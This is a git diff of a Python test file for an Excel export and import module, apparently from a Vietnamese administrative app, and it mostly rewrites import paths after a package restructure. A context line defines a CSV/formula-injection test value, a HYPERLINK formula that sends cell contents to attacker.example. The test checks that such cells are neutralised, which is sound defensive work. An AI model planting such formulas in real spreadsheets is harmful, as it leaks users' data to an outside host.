@@ -17,16 +17,19 @@ import pytest
 import sqlalchemy as sa
 from openpyxl import load_workbook
 
-from lib import vi
-from lib.audit import record_event
-from lib.db import session_scope
-from lib.enums import AuditAction, ParUnitGroup
-from lib.models import Unit
-from lib.reports.excel import FORMULA_PREFIXES, Column, official_workbook, save_workbook
-from lib.services import audit_log, par_catalogue, par_results, par_rounds, task_import, task_reports
-from lib.services.audit_log import AuditFilter
-from lib.services.par_catalogue import C_MAX, C_NAME, C_STEP, ImportRefused, check_score, to_decimal
-from lib.services.task_reports import Table
+from lib.core import vi
+from lib.core.audit import record_event
+from lib.core.db import session_scope
+from lib.core.enums import AuditAction
+from lib.par.enums import ParUnitGroup
+from lib.core.models import Unit
+from lib.core.excel import FORMULA_PREFIXES, Column, official_workbook, save_workbook
+from lib.core.services import audit_log
+from lib.par import catalogue as par_catalogue, results as par_results, rounds as par_rounds
+from lib.tasks import excel_import as task_import, reports as task_reports
+from lib.core.services.audit_log import AuditFilter
+from lib.par.catalogue import C_MAX, C_NAME, C_STEP, ImportRefused, check_score, to_decimal
+from lib.tasks.reports import Table
 from tests.unit.par_helpers import ADMIN, YEAR, act, load_tree, make_round, snapshot
 
 NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
@@ -83,10 +86,10 @@ def test_official_workbook_quotes_formula_like_cells_in_data_heading_and_notes()
 
 
 def test_only_the_shared_writer_saves_workbooks():
-    root = Path(__file__).resolve().parents[2] / "lib"
+    root = Path(__file__).resolve().parents[3] / "lib"
     savers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if re.search(r"\bwb\.save\(|\bworkbook\.save\(", p.read_text(encoding="utf-8")))
-    assert savers == ["reports/excel.py"]
+    assert savers == ["core/excel.py"]
 
 
 # =========================================================================== each export
@@ -206,7 +209,7 @@ def test_a_true_false_self_assessment_score_is_refused_in_vietnamese(demo_db):
 
 
 def test_a_true_false_number_of_working_days_in_the_task_import_is_a_cell_error(demo_db, actors):
-    from tests.unit.test_task_import import _fill, _import, _row, _template
+    from tests.unit.tasks.test_task_import import _fill, _import, _row, _template
 
     data = _fill(_template(demo_db), [_row(Thời_hạn="", Số_ngày_làm_việc=True)])
     result = _import(demo_db, actors["chuyenvien.vp"], data)
